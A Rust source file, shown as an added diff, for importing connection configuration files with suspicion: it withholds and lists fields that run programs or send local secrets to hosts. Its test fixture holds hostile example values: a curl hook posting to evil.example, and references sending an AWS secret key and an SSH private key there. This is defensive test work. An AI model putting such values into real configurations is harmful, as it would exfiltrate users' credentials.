@@ -1,0 +1,202 @@
+//! Connections from one machine to another: a file like the configuration, read with suspicion.
+//!
+//! A file that somebody sends may name programs to run and values to send to its own hosts. Both are left
+//! out unless the reader trusts it, and listed so that they can decide.
+
+use std::path::Path;
+
+use super::configuration::{self, Configuration, ConfigurationProblem, EditProblem};
+use crate::domain::text::inert;
+use crate::domain::{Connection, Endpoint, Name, SecretRef};
+
+/// What a file brings.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Import {
+    /// Settings and connections, without what was withheld.
+    pub configuration: Configuration,
+    /// What was left out; what was let in, where the file is trusted.
+    pub sensitive: Vec<Sensitive>,
+}
+
+/// Something in a file that runs a program or sends a value of this machine away.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Sensitive {
+    /// The connection, or nothing for a setting.
+    pub connection: Option<Name>,
+    /// `key`, `token`, `added/LABEL`, `on_change`, `clipboard_command`.
+    pub field: String,
+    /// One inert line: the program that would run, or what would be read and the host it would go to.
+    pub what: String,
+}
+
+/// `connections` as a file that [`import`] and the configuration itself understand. It holds references, no
+/// secret.
+pub fn export(connections: &[Connection]) -> Result<String, EditProblem> {
+    configuration::compose(connections)
+}
+
+/// Reads the file at `path`, whose text is `text`. Without `trust`, references of the kinds `cmd:`, `file:`
+/// and `env:` and the settings that run programs are left out; either way they are listed.
+pub fn import(path: &Path, text: &str, trust: bool) -> Result<Import, ConfigurationProblem> {
+    let mut configuration = configuration::read_text(path, text)?;
+    let mut sensitive = Vec::new();
+    let settings = &mut configuration.settings;
+    for (field, program) in [
+        ("on_change", &mut settings.on_change),
+        ("clipboard_command", &mut settings.clipboard_command),
+    ] {
+        if !program.is_empty() {
+            let what = format!("runs {}", inert(&program.join(" "), 200));
+            sensitive.push(Sensitive {
+                connection: None,
+                field: field.to_owned(),
+                what,
+            });
+            if !trust {
+                program.clear();
+            }
+        }
+    }
+    for connection in &mut configuration.connections {
+        sensitive.extend(screen(connection, trust));
+    }
+    Ok(Import {
+        configuration,
+        sensitive,
+    })
+}
+
+/// Lists what is sensitive in `connection`, and takes it out unless trusted.
+fn screen(connection: &mut Connection, trust: bool) -> Vec<Sensitive> {
+    let to = host(&connection.url);
+    let cms = connection
+        .cms_url
+        .as_deref()
+        .map_or_else(|| to.clone(), host);
+    let name = connection.name.clone();
+    let mut found = Vec::new();
+    let mut check = |field: String, reference: &SecretRef, to: &str| {
+        let what = match reference {
+            SecretRef::Cmd(words) => format!(
+                "runs {} and sends what it prints to {to}",
+                inert(&words.join(" "), 200)
+            ),
+            SecretRef::File(_) | SecretRef::Env(_) => {
+                format!(
+                    "sends the value of {} to {to}",
+                    inert(&reference.to_string(), 200)
+                )
+            }
+            SecretRef::Keyring(_) | SecretRef::Vault(_) | SecretRef::Ask => return true,
+        };
+        found.push(Sensitive {
+            connection: Some(name.clone()),
+            field,
+            what,
+        });
+        trust
+    };
+    connection
+        .key
+        .take_if(|key| !check("key".to_owned(), key, &to));
+    connection
+        .token
+        .take_if(|token| !check("token".to_owned(), token, &cms));
+    connection
+        .added
+        .retain(|(label, reference)| check(format!("added/{label}"), reference, &to));
+    found
+}
+
+fn host(url: &str) -> String {
+    match Endpoint::parse(url) {
+        Ok(endpoint) => endpoint.origin().to_string(),
+        Err(_) => "a URL that can't be read".to_owned(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::domain::ServiceId;
+
+    const TEXT: &str = r#"version = 1
+        [settings]
+        on_change = ["curl", "-d@-", "https://evil.example"]
+        bell = true
+        [[connection]]
+        name = "shop"
+        service = "http"
+        url = "https://evil.example/x"
+        key = "env:AWS_SECRET_ACCESS_KEY"
+        token = ["cmd:sh", "-c", "a b"]
+        cms_url = "https://cms.example"
+        added = { id = "file:/home/a/.ssh/id", mine = "vault:x" }
+    "#;
+
+    fn read(trust: bool) -> Import {
+        import(Path::new("sent.toml"), TEXT, trust).unwrap()
+    }
+
+    #[test]
+    fn what_runs_programs_or_sends_values_is_left_out_and_listed() {
+        let import = read(false);
+        let connection = &import.configuration.connections[0];
+        assert_eq!((&connection.key, &connection.token), (&None, &None));
+        assert_eq!(
+            connection.added,
+            [("mine".to_owned(), "vault:x".parse().unwrap())]
+        );
+        assert_eq!(import.configuration.settings.on_change, [""; 0]);
+        assert!(import.configuration.settings.bell);
+        let lines: Vec<String> = import
+            .sensitive
+            .iter()
+            .map(|one| format!("{}: {}", one.field, one.what))
+            .collect();
+        assert_eq!(
+            lines,
+            [
+                "on_change: runs curl -d@- https://evil.example",
+                "key: sends the value of env:AWS_SECRET_ACCESS_KEY to https://evil.example",
+                "token: runs sh -c a b and sends what it prints to https://cms.example",
+                "added/id: sends the value of file:/home/a/.ssh/id to https://evil.example",
+            ]
+        );
+    }
+
+    #[test]
+    fn a_trusted_file_is_taken_whole_and_still_listed() {
+        let import = read(true);
+        assert!(import.configuration.connections[0].key.is_some());
+        assert_eq!(import.configuration.connections[0].added.len(), 2);
+        assert_eq!(import.configuration.settings.on_change.len(), 3);
+        assert_eq!(import.sensitive.len(), 4);
+    }
+
+    #[test]
+    fn what_is_exported_is_imported_again() {
+        let mut connection = Connection::new(
+            Name::parse("shop").unwrap(),
+            ServiceId::blesta(),
+            "https://a.example",
+        );
+        connection.key = Some("vault:shop/key".parse().unwrap());
+        let text = export(std::slice::from_ref(&connection)).unwrap();
+        let import = import(Path::new("x"), &text, false).unwrap();
+        assert_eq!(
+            (import.configuration.connections, import.sensitive),
+            (vec![connection], vec![])
+        );
+    }
+
+    #[test]
+    fn a_file_that_does_not_fit_is_named() {
+        let problem =
+            import(Path::new("sent.toml"), "version = 1\nsettings = 1\n", false).unwrap_err();
+        assert!(
+            problem.to_string().starts_with("sent.toml, line 2"),
+            "{problem}"
+        );
+    }
+}
